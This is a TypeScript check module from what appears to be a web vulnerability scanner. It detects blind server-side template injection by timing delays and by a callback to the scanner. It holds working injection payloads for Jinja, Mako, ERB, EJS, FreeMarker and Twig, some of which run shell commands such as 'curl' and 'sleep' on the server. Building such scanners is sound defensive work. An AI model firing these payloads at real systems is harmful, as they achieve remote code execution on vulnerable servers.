import { isProven, noteProven } from '../../attacks/economy.js';
import { injectable } from '../../attacks/places.js';
import { hasLanguage, isAtLeast, proofOfDelay, proveCallback } from '../../attacks/prove.js';
import { proveDelay } from '../../attacks/timing.js';
import type { ActiveCheck, Prober, Proof } from '../../check.js';
import type { InputPlace } from '../../exchange.js';

export const check: ActiveCheck = {
  id: 'template-injection-blind',
  mode: 'active',
  scope: 'place',
  places: injectable,
  writes: false,
  technologies: [],
  title: 'Template injection, shown by a delay or a request from the server',
  severity: 'high',
  aliases: ['ZAP-90036', 'CWE-1336', 'WASC-20'],
  cwe: 1336,
  fix: "Pass input to the template as data; never build the template's text from it.",
  references: ['https://jinja.palletsprojects.com/en/stable/templates/#import-context-behavior'],
  cost: { low: 0, medium: 0, high: 8, insane: 8 },
  attack: async (target, prober) =>
    target.scope === 'place' && !isProven(target.place, 'template')
      ? noteProven(target.place, 'template', await prove(target.place, prober))
      : [],
};

async function prove(place: InputPlace, prober: Prober): Promise<readonly Proof[]> {
  if (!isAtLeast(prober, 'high')) return [];
  for (const { technology, payload } of delays) {
    if (hasLanguage(prober, technology) === false) continue;
    const delay = await proveDelay(prober, place, payload);
    if (delay !== undefined) return [proofOfDelay(place, delay)];
  }
  const proof = await proveCallback(prober, place, [
    (url) => `<#assign q="freemarker.template.utility.Execute"?new()>\${q("curl -s ${url}")}`,
    (url) => `{{['curl -s ${url}']|filter('system')}}`,
  ]);
  return proof === undefined ? [] : [proof];
}

interface TemplateDelay {
  readonly technology: RegExp;
  readonly payload: (seconds: number) => string;
}

const delays: readonly TemplateDelay[] = [
  {
    technology: /python|flask|jinja|django/,
    payload: (seconds) => `{{cycler.__init__.__globals__.os.popen('sleep ${seconds}').read()}}`,
  },
  { technology: /python|mako/, payload: (seconds) => `\${__import__('time').sleep(${seconds})}` },
  { technology: /ruby|rails|erb/, payload: (seconds) => `<%=sleep(${seconds})%>` },
  {
    technology: /node|express|ejs|npm/,
    payload: (seconds) => `<%=(function(){var e=Date.now()+${seconds}000;while(Date.now()<e);})()%>`,
  },
];
